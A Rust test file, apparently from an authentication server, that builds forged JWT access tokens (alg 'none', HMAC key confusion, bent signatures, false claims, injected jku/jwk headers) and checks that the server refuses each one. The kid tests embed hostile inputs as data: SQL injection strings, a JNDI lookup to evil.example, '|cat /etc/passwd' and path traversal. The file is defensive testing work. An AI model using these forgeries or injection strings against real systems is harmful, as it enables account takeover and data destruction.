//! Access tokens that are not ours, or not as we made them. Most of what is shown here is signed with our own key: what
//! refuses it is the rule, not a signature that would have been wrong anyway.

use std::net::{TcpListener, TcpStream};

use aws_lc_rs::rand::SystemRandom;
use aws_lc_rs::signature::{ECDSA_P256_SHA256_FIXED_SIGNING, EcdsaKeyPair, KeyPair};
use data_encoding::{BASE64, BASE64URL_NOPAD};
use foundation::db::Statement;
use foundation::kernel::MacKey;
use reqwest::Method;
use serde_json::{Value, json};

use super::support::{ask, host, wire};
use crate::both;
use crate::support::{Person, TestApp};

const FORM: &str = "application/x-www-form-urlencoded";
const INACTIVE: &str = r#"{"active":false}"#;

static KEYS: Statement = Statement { name: "KEYS", text: "SELECT kid, sealed FROM signing_keys" };

/// What the server says of a token to others.
pub async fn introspect(app: &TestApp, token: &str) -> Value {
    let body = serde_urlencoded::to_string([("token", token)]).unwrap();
    let request = app.request(Method::POST, "/v1/introspect").header("content-type", FORM).body(body);
    let answer = ask(app, request).await;
    assert_eq!(answer.status, 200, "{}", answer.text);
    answer.json
}

async fn me(app: &TestApp, token: &str) -> String {
    let request = app.request(Method::GET, "/v1/me").header("authorization", format!("Bearer {token}"));
    let answer = ask(app, request).await;
    if answer.status == 200 { "200".to_owned() } else { answer.refusal() }
}

/// Neither our own API nor anybody who asks us takes it.
async fn refused(app: &TestApp, what: &str, token: &str) {
    assert_eq!(me(app, token).await, "401 token_invalid", "{what}: {token}");
    assert_eq!(introspect(app, token).await.to_string(), INACTIVE, "{what}: {token}");
}

/// As `refused`, for what was well made and says something that is not so (any more).
async fn untrue(app: &TestApp, what: &str, token: &str) {
    let said = me(app, token).await;
    assert!(said.starts_with("401 "), "{what}: {said}: {token}");
    assert_eq!(introspect(app, token).await.to_string(), INACTIVE, "{what}: {token}");
}

async fn good(app: &TestApp, what: &str, token: &str) {
    assert_eq!(me(app, token).await, "200", "{what}");
    assert_eq!(introspect(app, token).await["active"], true, "{what}");
}

fn encode(text: &str) -> String {
    BASE64URL_NOPAD.encode(text.as_bytes())
}

/// Header (0) or claims (1) of a token.
fn part(token: &str, n: usize) -> Value {
    let text = BASE64URL_NOPAD.decode(token.split('.').nth(n).unwrap().as_bytes()).unwrap();
    serde_json::from_slice(&text).unwrap()
}

fn signature(token: &str) -> Vec<u8> {
    BASE64URL_NOPAD.decode(token.rsplit('.').next().unwrap().as_bytes()).unwrap()
}

fn changed(of: &Value, name: &str, to: Value) -> String {
    let mut of = of.clone();
    of[name] = to;
    of.to_string()
}

fn without(of: &Value, name: &str) -> String {
    let mut of = of.clone();
    of.as_object_mut().unwrap().remove(name).unwrap();
    of.to_string()
}

fn signed_by(key: &EcdsaKeyPair, header: &str, claims: &str) -> String {
    let message = format!("{}.{}", encode(header), encode(claims));
    let signature = key.sign(&SystemRandom::new(), message.as_bytes()).unwrap();
    format!("{message}.{}", BASE64URL_NOPAD.encode(signature.as_ref()))
}

/// The public key with this id, and the whole set as it is served.
async fn public_key(app: &TestApp, kid: &Value) -> (Value, String) {
    let jwks = app.get("/.well-known/jwks.json").await;
    let mut keys = jwks.json["keys"].as_array().unwrap().iter();
    (keys.find(|key| key["kid"] == *kid).unwrap().clone(), jwks.text)
}

/// A good token taken apart, and the very key that signed it.
struct Forge {
    header: Value,
    claims: Value,
    key: EcdsaKeyPair,
}

impl Forge {
    async fn of(app: &TestApp, person: &Person) -> Self {
        let (header, claims) = (part(&person.access, 0), part(&person.access, 1));
        let keys: Vec<(String, Vec<u8>)> = app.app.db.read_one(|tx| tx.all(&KEYS, &[])).await.unwrap();
        let sealed = keys.into_iter().find(|(kid, _)| header["kid"] == **kid).unwrap().1;
        let private = app.app.sealer.open("signing key", &sealed).unwrap();
        let key = EcdsaKeyPair::from_pkcs8(&ECDSA_P256_SHA256_FIXED_SIGNING, &private).unwrap();
        let forge = Self { header, claims, key };
        // The trap: with this key, whatever else is right is let in.
        good(app, "our own key", &forge.claiming(&forge.claims.to_string())).await;
        forge
    }

    /// Our claims under another header.
    fn headed(&self, header: &str) -> String {
        signed_by(&self.key, header, &self.claims.to_string())
    }

    /// Other claims under our header.
    fn claiming(&self, claims: &str) -> String {
        signed_by(&self.key, &self.header.to_string(), claims)
    }
}

both! {
    async fn a56_cve_2022_23540_alg_none(app: &TestApp) {
        let ada = app.person("ada@ex.test").await;
        let forge = Forge::of(app, &ada).await;
        let (message, signature) = ada.access.rsplit_once('.').unwrap();
        let claims = encode(&forge.claims.to_string());
        let none = ["none", "None", "NONE", "nOnE", "nonE", "none ", "", " ", "null", "dir", "es256", "ES256 ", "ES256K", "ES384", "HS256", "RS256", "PS256", "EdDSA"];
        let mut headers: Vec<String> = none.into_iter().map(|alg| changed(&forge.header, "alg", json!(alg))).collect();
        for alg in [json!(null), json!([]), json!(["ES256"]), json!(["none"]), json!({}), json!({ "alg": "ES256" }), json!(0), json!(true)] {
            headers.push(changed(&forge.header, "alg", alg));
        }
        headers.extend([without(&forge.header, "alg"), "{}".into(), "null".into(), "[]".into(), "\"ES256\"".into(), String::new(), json!({ "alg": "none" }).to_string()]);
        for header in &headers {
            let bare = format!("{}.{claims}", encode(header));
            for token in [bare.clone(), format!("{bare}."), format!("{bare}.{signature}"), forge.headed(header)] {
                refused(app, header, &token).await;
            }
        }
        for token in [message.to_owned(), format!("{message}."), format!("{message}.."), format!("{message}.{signature}."), format!("{message}..{signature}"), format!(".{claims}.{signature}")] {
            refused(app, "parts", &token).await;
        }

        // An encryption's five parts, a token inside a token, and JSON's long form of one.
        for header in [json!({ "alg": "dir", "enc": "A256GCM" }), json!({ "alg": "RSA-OAEP", "enc": "A128GCM", "cty": "JWT", "kid": forge.header["kid"] }), changed(&forge.header, "enc", json!("A128GCM")).parse().unwrap()] {
            let header = encode(&header.to_string());
            for token in [format!("{header}..AAAAAAAAAAAAAAAA.{claims}.AAAAAAAAAAAAAAAAAAAAAA"), format!("{header}...."), format!("{header}.{claims}.{signature}.{claims}.{signature}")] {
                refused(app, "encrypted", &token).await;
            }
        }
        let inside = encode(&ada.access);
        for header in [json!({ "alg": "none", "cty": "JWT" }).to_string(), changed(&forge.header, "cty", json!("JWT")), forge.header.to_string()] {
            let nested = format!("{}.{inside}", encode(&header));
            for token in [format!("{nested}."), format!("{nested}.{signature}"), signed_by(&forge.key, &header, &ada.access)] {
                refused(app, "nested", &token).await;
            }
        }
        let long_form = json!({ "payload": claims, "protected": message.split('.').next(), "signature": signature }).to_string();
        for token in [long_form.clone(), encode(&long_form), format!("{inside}..")] {
            refused(app, "long form", &token).await;
        }
        good(app, "after all this", &ada.access).await;
    }
}

fn der(tag: u8, parts: &[&[u8]]) -> Vec<u8> {
    let body = parts.concat();
    let length = match body.len() {
        n if n < 0x80 => vec![n as u8],
        n if n < 0x100 => vec![0x81, n as u8],
        n => vec![0x82, (n >> 8) as u8, n as u8],
    };
    [&[tag][..], &length, &body].concat()
}

/// An unsigned number as DER has it.
fn integer(bytes: &[u8]) -> Vec<u8> {
    let start = bytes.iter().position(|byte| *byte != 0).unwrap_or(bytes.len());
    let rest = &bytes[start..];
    let sign: &[u8] = if rest.first().is_none_or(|byte| *byte >= 0x80) { &[0] } else { &[] };
    der(2, &[sign, rest])
}

fn pem(name: &str, bytes: &[u8]) -> String {
    let text = BASE64.encode(bytes);
    let lines: Vec<&str> =
        text.as_bytes().chunks(64).map(|line| std::str::from_utf8(line).unwrap()).collect();
    format!("-----BEGIN {name}-----\n{}\n-----END {name}-----\n", lines.join("\n"))
}

/// Everything that somebody who knows our public key could take for a secret.
fn forms(jwk: &Value, jwks: &str) -> Vec<Vec<u8>> {
    let member = |name: &str| BASE64URL_NOPAD.decode(jwk[name].as_str().unwrap().as_bytes()).unwrap();
    let mut texts = vec![String::new(), "secret".into(), "null".into(), jwks.into(), jwk.to_string()];
    let (algorithm, key) = match jwk["kty"].as_str().unwrap() {
        "EC" => {
            let curve = b"\x06\x07\x2a\x86\x48\xce\x3d\x02\x01\x06\x08\x2a\x86\x48\xce\x3d\x03\x01\x07";
            texts.push(
                json!({ "crv": jwk["crv"], "kty": jwk["kty"], "x": jwk["x"], "y": jwk["y"] }).to_string(),
            );
            (curve.to_vec(), [&[4u8][..], &member("x"), &member("y")].concat())
        }
        "RSA" => {
            let key = der(0x30, &[&integer(&member("n")), &integer(&member("e"))]);
            texts.push(pem("RSA PUBLIC KEY", &key));
            (b"\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x01\x01\x05\x00".to_vec(), key)
        }
        _ => (b"\x06\x03\x2b\x65\x70".to_vec(), member("x")),
    };
    let info = der(0x30, &[&der(0x30, &[&algorithm]), &der(3, &[&[0], &key])]);
    texts.push(pem("PUBLIC KEY", &info));
    texts.extend(texts.clone().iter().map(|text| text.trim_end().to_owned()));
    let mut all: Vec<Vec<u8>> = texts.into_iter().map(String::into_bytes).collect();
    all.extend([info, key, vec![0; 32]]);
    for value in jwk.as_object().unwrap().values().filter_map(Value::as_str) {
        all.push(value.as_bytes().to_vec());
        all.extend(BASE64URL_NOPAD.decode(value.as_bytes()));
    }
    all
}

/// A server that signs with one algorithm takes no other, and no key for another kind of key.
async fn confused(app: &TestApp, access: &str, algorithm: &str) {
    let (header, claims) = (part(access, 0), part(access, 1));
    assert_eq!(header["alg"], algorithm);
    let names: Vec<&String> = header.as_object().unwrap().keys().collect();
    assert_eq!(names.len(), 3, "{names:?}");
    let (jwk, jwks) = public_key(app, &header["kid"]).await;
    assert_eq!(jwk["d"], Value::Null);
    for alg in ["HS256", algorithm] {
        let message = format!(
            "{}.{}",
            encode(&changed(&header, "alg", json!(alg))),
            encode(&changed(&claims, "aal", json!(2)))
        );
        for key in forms(&jwk, &jwks) {
            let tag = MacKey::new(&key).mac(message.as_bytes());
            let token = format!("{message}.{}", BASE64URL_NOPAD.encode(tag.as_bytes()));
            refused(app, &format!("{alg} under {}", String::from_utf8_lossy(&key)), &token).await;
        }
    }
    let (message, _) = access.rsplit_once('.').unwrap();
    for alg in
        ["ES256", "ES384", "ES256K", "EdDSA", "Ed25519", "RS256", "RS384", "RS512", "PS256", "HS256", "HS512"]
    {
        if alg != algorithm {
            let swapped = encode(&changed(&header, "alg", json!(alg)));
            let rest = access.split_once('.').unwrap().1;
            refused(app, &format!("{algorithm} as {alg}"), &format!("{swapped}.{rest}")).await;
        }
    }
    let right = signature(access);
    let half = right.len() / 2;
    let last = right.len() - 1;
    let mut flipped = right.clone();
    flipped[last] ^= 1;
    for wrong in [
        Vec::new(),
        vec![0],
        right[..last].to_vec(),
        right[1..].to_vec(),
        [right.as_slice(), &[0u8]].concat(),
        [&[0u8][..], &right].concat(),
        [right.as_slice(), &right].concat(),
        [&right[half..], &right[..half]].concat(),
        vec![0; right.len()],
        vec![0xff; right.len()],
        [&vec![0; half][..], &right[half..]].concat(),
        [&right[..half], &vec![0; right.len() - half][..]].concat(),
        flipped,
        der(0x30, &[&integer(&right[..half]), &integer(&right[half..])]),
    ] {
        let token = format!("{message}.{}", BASE64URL_NOPAD.encode(&wrong));
        refused(app, &format!("a signature of {} bytes", wrong.len()), &token).await;
    }
    // Bits behind the last byte: another text of the same signature.
    let loose = access.len() - 1;
    let next = match &access[loose..] {
        "A" => "B",
        "Q" => "R",
        "g" => "h",
        _ => "x",
    };
    if access[loose..] != *next {
        refused(app, "loose bits", &format!("{}{next}", &access[..loose])).await;
    }
    good(app, algorithm, access).await;
}

both! {
    async fn a57_cve_2026_11800_hmac_confusion(app: &TestApp) {
        let ada = app.person("ada@ex.test").await;
        let bob = app.person("bob@ex.test").await;
        confused(app, &ada.access, "ES256").await;
        for algorithm in ["EdDSA", "RS256"] {
            let other = TestApp::with(app.engine, true, &format!("[tokens]\nalgorithm = \"{algorithm}\"")).await;
            let eve = other.person("eve@ex.test").await;
            confused(&other, &eve.access, algorithm).await;
            refused(app, "another server's", &eve.access).await;
            refused(&other, "another server's", &ada.access).await;
            other.finish().await;
        }

        // Signed with our key, and not what we say of anybody: the types and the values of claims.
        let forge = Forge::of(app, &ada).await;
        let (issuer, claims) = (&forge.claims["iss"], &forge.claims);
        for (name, values) in [
            ("exp", vec![json!("1795430600"), json!(null), json!(-1), json!(0), json!(1_795_430_600.5), json!(1e300), json!(u64::MAX), json!(true), json!([1_795_430_600]), json!({})]),
            // A day is longer than any token of ours lives, and so is one that began long ago.
            ("exp", vec![json!(claims["iat"].as_i64().unwrap() + 86_400), json!(4_000_000_000_i64)]),
            ("iat", vec![json!(claims["iat"].as_i64().unwrap() - 86_400), json!("1795430000"), json!(null), json!([])]),
            ("iss", vec![json!("https://evil.example"), json!(format!("{}/", issuer.as_str().unwrap())), json!([issuer]), json!(null), json!(""), json!(1), json!({})]),
            ("aud", vec![json!("https://evil.example"), json!([claims["aud"], "https://evil.example"]), json!(["https://evil.example"]), json!([]), json!(null), json!(""), json!("*")]),
            ("sub", vec![json!(bob.id), json!(null), json!(""), json!(1), json!("admin"), json!([claims["sub"]]), json!(ada.session), json!(ada.id.to_uppercase())]),
            ("sid", vec![json!(bob.session), json!(null), json!(""), json!("*"), json!([claims["sid"]]), json!(ada.id)]),
        ] {
            for value in values {
                let what = format!("{name} = {value}");
                untrue(app, &what, &forge.claiming(&changed(claims, name, value))).await;
            }
            if name != "iat" {
                refused(app, &format!("no {name}"), &forge.claiming(&without(claims, name))).await;
            }
        }
        let text = claims.to_string();
        for (what, claims) in [("twice", format!("{},\"sub\":\"{}\"}}", &text[..text.len() - 1], bob.id)), ("twice", format!("{{\"sid\":\"{}\",{}", bob.session, &text[1..])),
            ("a list", format!("[{text}]")), ("a text", json!(text).to_string()), ("nothing", String::new()), ("null", "null".into()), ("cut", text[..text.len() - 1].to_owned()), ("two", format!("{text}{text}")),
            ("deep", format!("{}{}", "[".repeat(2_000), "]".repeat(2_000)))] {
            refused(app, what, &forge.claiming(&claims)).await;
        }

        // The text of a good token, bent.
        let (head, rest) = ada.access.split_once('.').unwrap();
        let (body, signature) = rest.split_once('.').unwrap();
        for bent in [ada.access.to_lowercase(), ada.access.to_uppercase(), format!("{head}=.{body}=.{signature}="), format!("{head}.{body}.{signature}=="), format!("{head}. {body}.{signature}"),
            format!("{head}.{body}\t.{signature}"), format!("{head} {body} {signature}"), ada.access.replace('.', ":"), format!("{head}.{body}.{signature},"), format!("\"{}\"", ada.access),
            format!("{} {}", ada.access, ada.access), format!("{body}.{head}.{signature}"), format!("{head}.{head}.{signature}"), ada.access.replace('-', "+").replace('_', "/") + "+"] {
            refused(app, "bent", &bent).await;
        }
        good(app, "after all this", &bob.access).await;
        // Not yet: keys from outside, among which there could be weak ones; tokens of social providers.
    }
}

/// More than any server should read of one header, over a bare socket.
async fn much_too_long(app: &TestApp, token: &str) {
    let request = format!(
        "GET /v1/me HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {token}\r\nConnection: close\r\n\r\n",
        host(&app.url)
    );
    let heard = wire(&app.url, request.as_bytes()).await;
    // Whoever sends on when the door is shut may not hear why.
    assert!(heard.closed && heard.statuses().iter().all(|status| matches!(status, 401 | 431)), "{heard:?}");
    let body = format!("token={token}");
    let request = format!(
        "POST /v1/introspect HTTP/1.1\r\nHost: {}\r\nContent-Type: {FORM}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        host(&app.url),
        body.len()
    );
    let heard = wire(&app.url, request.as_bytes()).await;
    let well = |status: u16, text: &str| status == 413 || (status == 200 && text == INACTIVE);
    assert!(heard.answers.iter().all(|answer| well(answer.status, &answer.body)), "{heard:?}");
}

both! {
    async fn a58_rfc_8725_header_injection(app: &TestApp) {
        let ada = app.person("ada@ex.test").await;
        let forge = Forge::of(app, &ada).await;
        let sink = TcpListener::bind("127.0.0.1:0").unwrap();
        sink.set_nonblocking(true).unwrap();
        let there = format!("http://{}", sink.local_addr().unwrap());
        let kid = forge.header["kid"].as_str().unwrap();
        let rows = || async { (app.count("SELECT COUNT(*) FROM signing_keys").await, app.count("SELECT COUNT(*) FROM sessions").await) };
        let before = rows().await;

        // The attacker's own key, offered in every way in which a header can offer one.
        let theirs = EcdsaKeyPair::generate_pkcs8(&ECDSA_P256_SHA256_FIXED_SIGNING, &SystemRandom::new()).unwrap();
        let theirs = EcdsaKeyPair::from_pkcs8(&ECDSA_P256_SHA256_FIXED_SIGNING, theirs.as_ref()).unwrap();
        let point: &[u8] = theirs.public_key().as_ref();
        let jwk = json!({ "kty": "EC", "crv": "P-256", "alg": "ES256", "kid": kid, "x": BASE64URL_NOPAD.encode(&point[1..33]), "y": BASE64URL_NOPAD.encode(&point[33..]) });
        let claims = forge.claims.to_string();
        let more = [
            ("jku", json!(format!("{there}/jwks.json"))), ("jku", json!(null)), ("x5u", json!(format!("{there}/cert.pem"))), ("jwk", jwk.clone()), ("jwk", json!({ "kty": "oct", "k": "" })),
            ("x5c", json!(["MIIB"])), ("x5t", json!("x")), ("crit", json!(["exp"])), ("crit", json!(["b64"])), ("crit", json!([])), ("b64", json!(false)), ("b64", json!(true)), ("zip", json!("DEF")),
            ("cty", json!("JWT")), ("enc", json!("A128GCM")), ("p2c", json!(2_147_483_647)), ("epk", jwk.clone()), ("iss", json!(there)), ("url", json!(there)), ("nonce", json!("x")), ("", json!("")), ("Alg", json!("ES256")),
        ];
        for (name, value) in &more {
            let header = changed(&forge.header, name, value.clone());
            for token in [forge.headed(&header), signed_by(&theirs, &header, &claims)] {
                refused(app, &header, &token).await;
            }
        }
        refused(app, "their key under our name", &signed_by(&theirs, &forge.header.to_string(), &claims)).await;
        refused(app, "their issuer", &signed_by(&theirs, &forge.header.to_string(), &changed(&forge.claims, "iss", json!(there)))).await;
        let all_at_once = json!({ "alg": "ES256", "typ": "at+jwt", "kid": format!("{there}/kid"), "jku": there, "x5u": there, "jwk": jwk });
        refused(app, "all at once", &signed_by(&theirs, &all_at_once.to_string(), &claims)).await;
        let pbes2 = json!({ "alg": "PBES2-HS256+A128KW", "enc": "A128CBC-HS256", "p2c": 2_147_483_647, "p2s": "AAAAAAAAAAA" });
        refused(app, "years of work", &format!("{}.AAAA.AAAA.AAAA.AAAA", encode(&pbes2.to_string()))).await;

        // Key ids are looked up in a map, and are texts.
        let long = "k".repeat(5_000);
        for other in ["", " ", "../../../../dev/null", "/dev/null", "/proc/self/environ", "' OR '1'='1", "'; DROP TABLE signing_keys; --", "x' UNION SELECT 'a', 'b' --", "%00", "\0", "null", "undefined", "0", "__proto__",
            "*", "%", "${jndi:ldap://evil.example}", "|cat /etc/passwd", there.as_str(), long.as_str(), &kid.to_lowercase(), &kid[1..], &format!("{kid} "), &format!("{kid}\0"), &format!("./{kid}")] {
            if other != kid {
                refused(app, "kid", &forge.headed(&changed(&forge.header, "kid", json!(other)))).await;
            }
        }
        for other in [json!(null), json!(0), json!(true), json!([kid]), json!({ "kid": kid })] {
            refused(app, "kid", &forge.headed(&changed(&forge.header, "kid", other))).await;
        }
        for other in [json!("JWT"), json!("JWT+at"), json!("at+JWT"), json!("AT+JWT"), json!("at+jwt "), json!("logout+jwt"), json!("dpop+jwt"), json!(""), json!(null), json!(["at+jwt"])] {
            refused(app, "typ", &forge.headed(&changed(&forge.header, "typ", other))).await;
        }
        for name in ["typ", "kid", "alg"] {
            refused(app, "missing", &forge.headed(&without(&forge.header, name))).await;
        }
        let text = forge.header.to_string();
        for twice in [format!("{{\"alg\":\"none\",{}", &text[1..]), format!("{},\"alg\":\"none\"}}", &text[..text.len() - 1]), format!("{{\"kid\":\"x\",{}", &text[1..]), format!("{},\"kid\":\"x\"}}", &text[..text.len() - 1]),
            format!("{},\"typ\":\"JWT\"}}", &text[..text.len() - 1]), format!("{text}{text}"), format!("[{text}]"), text[..text.len() - 1].to_owned()] {
            refused(app, "twice", &forge.headed(&twice)).await;
        }
        for n in 0..1_000 {
            let unknown = forge.headed(&changed(&forge.header, "kid", json!(format!("unknown-{n}"))));
            assert_eq!(me(app, &unknown).await, "401 token_invalid");
        }

        // Sizes and dots. What is refused for its length alone would be let in if it were a little shorter.
        let padded = |bytes: usize| forge.claiming(&changed(&forge.claims, "x", json!("x".repeat(bytes))));
        good(app, "nearly too long", &padded(5_000)).await;
        assert!(padded(5_000).len() < 8 << 10 && padded(6_000).len() > 8 << 10);
        refused(app, "too long", &padded(6_000)).await;
        for dots in [".".to_owned(), "..".into(), "....".into(), ".".repeat(8_000), "e30.".repeat(2_000), "a.b.c.d.e".into(), ".".repeat(12_000)] {
            refused(app, "dots", &dots).await;
        }
        let megabyte = forge.headed(&changed(&forge.header, "kid", json!("k".repeat(1 << 20))));
        for token in [padded(48 << 10), "x".repeat(64 << 10), ".".repeat(64 << 10), megabyte] {
            much_too_long(app, &token).await;
        }

        assert_eq!(rows().await, before, "nothing was stored, nothing dropped");
        assert_eq!(sink.accept().unwrap_err().kind(), std::io::ErrorKind::WouldBlock, "somebody was asked for a key");
        let _caller = TcpStream::connect(sink.local_addr().unwrap()).unwrap();
        assert!(sink.accept().is_ok(), "the trap: it hears who calls");
        good(app, "after all this", &ada.access).await;
        // Not yet: keys that are fetched, of social providers; there an unknown kid must not fetch again and again.
    }
}
